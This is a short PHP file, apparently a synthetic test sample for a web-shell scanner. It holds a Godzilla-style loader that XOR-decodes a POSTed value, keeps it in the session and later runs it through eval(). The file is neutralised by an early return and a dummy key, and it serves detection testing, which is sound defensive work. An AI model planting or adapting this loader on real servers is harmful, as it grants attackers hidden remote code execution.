<?php
// synthetic test sample for breachscan: Godzilla-like loader - XOR with a fixed 16-hex-digit
// key, payload kept in the session, evaluated. Dummy key; disabled.
return;
@session_start();
function encode($D, $K) { for ($i = 0; $i < strlen($D); $i++) { $c = $K[$i + 1 & 15]; $D[$i] = $D[$i]^$c; } return $D; }
$pass = 'pass'; $payloadName = 'payload'; $key = '0000000000000000';
if (isset($_POST[$pass])) {
    $data = encode(base64_decode($_POST[$pass]), $key);
    if (isset($_SESSION[$payloadName])) { $payload = encode($_SESSION[$payloadName], $key); eval($payload); }
    else { $_SESSION[$payloadName] = $data; }
}
